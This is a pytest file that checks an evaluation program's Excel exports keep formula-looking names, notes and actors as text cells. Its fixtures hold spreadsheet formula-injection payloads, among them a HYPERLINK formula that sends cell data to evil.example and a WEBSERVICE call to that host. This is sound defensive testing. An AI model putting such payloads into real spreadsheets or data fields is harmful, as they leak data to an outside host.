"""Text stays text (issue 11 item 5, DESIGN.md section 5): a name, note or actor that starts
with ``=``, ``+``, ``-`` or ``@`` is written as a string cell in every spreadsheet the program
writes (the exports of reports/excel.py, the inspector's scoresheet, the audit export), read back
with openpyxl; the only formulas are the program's own totals."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from evaluator.services import audit_log
from evaluator.services import scoresheets as scoresheet_service
from evaluator.services.imports import import_scores
from evaluator.spreadsheet import FORMULA_START
from reports.excel import write_budget, write_rankings, write_scores
from tests.evaluator import sync_fixtures as f
from tests.evaluator.helpers import committee_user, write_csv

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเพื่อดูคะแนน")'
NOTES = ["+SUM(1,2)", "-1+2", "@cmd", '=WEBSERVICE("http://evil.example")']
ACTOR = "=1+1 ผู้นำเข้า"


@pytest.fixture
def pair(tmp_path: Path) -> Iterator[f.FieldPair]:
    p = f.make_pair(tmp_path)
    rows = [
        ["outstanding", EVIL_NAME, code, crit, 4, note]
        for code in f.TAMBONS[:3]
        for (crit, *_), note in zip(f.CRITERIA, NOTES, strict=False)
    ]
    path = write_csv(
        tmp_path / "evil.csv", ["รอบ", "ผู้ประเมิน", "รหัสตำบล", "เกณฑ์", "คะแนน", "หมายเหตุ"], rows
    )
    import_scores(p.committee_db, committee_user(p.committee_db, ACTOR), path)
    yield p
    p.close()


def _cells(path: Path) -> list[tuple[str, str, object, str]]:
    wb = load_workbook(path)
    return [
        (ws.title, cell.coordinate, cell.value, cell.data_type)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _check(path: Path, *, own_formulas: str | None = None) -> int:
    """Every formula-looking text is a string cell; the only formulas are ``own_formulas``."""
    cells = _cells(path)
    risky = [c for c in cells if isinstance(c[2], str) and c[2].startswith(FORMULA_START)]
    formulas = [c for c in cells if c[3] == "f"]
    for sheet, coord, value, kind in risky:
        if own_formulas is not None and str(value).startswith(own_formulas) and kind == "f":
            continue
        assert kind == "s", f"{path.name} {sheet}!{coord} = {value!r} is {kind}, not text"
    for sheet, coord, value, _ in formulas:
        assert own_formulas is not None and str(value).startswith(own_formulas), (
            f"{path.name} {sheet}!{coord} = {value!r} is a formula"
        )
    return len([c for c in risky if c[3] == "s"])


def test_the_scores_export_keeps_names_and_notes_as_text(pair: f.FieldPair) -> None:
    out = pair.tmp / "scores.xlsx"
    write_scores(pair.committee_db, out)
    assert _check(out) >= 1 + len(NOTES[: len(f.CRITERIA)])
    assert EVIL_NAME in [c[2] for c in _cells(out)]


def test_the_rankings_and_budget_exports_have_only_their_own_totals_as_formulas(
    pair: f.FieldPair,
) -> None:
    rankings = pair.tmp / "rankings.xlsx"
    write_rankings(pair.committee_db, "outstanding", rankings)
    _check(rankings)
    budget = pair.tmp / "budget.xlsx"
    write_budget(pair.committee_db, budget)
    _check(budget, own_formulas="=SUM(")


def test_the_inspectors_scoresheet_keeps_names_and_notes_as_text(pair: f.FieldPair) -> None:
    out = pair.tmp / "scoresheet.xlsx"
    committee = f.user(pair.committee_db, "กรรมการ")
    scoresheet_service.export_scoresheet(pair.committee_db, committee, EVIL_NAME, out)
    assert _check(out) >= 2
    values = [c[2] for c in _cells(out)]
    assert any(isinstance(v, str) and EVIL_NAME in v for v in values)
    assert NOTES[0] in values


def test_the_audit_export_keeps_actors_and_values_as_text(pair: f.FieldPair) -> None:
    out = pair.tmp / "audit.xlsx"
    audit_log.export_xlsx(pair.committee_db, f.user(pair.committee_db, "กรรมการ"), out)
    assert _check(out) >= 1
    assert ACTOR in [c[2] for c in _cells(out)]
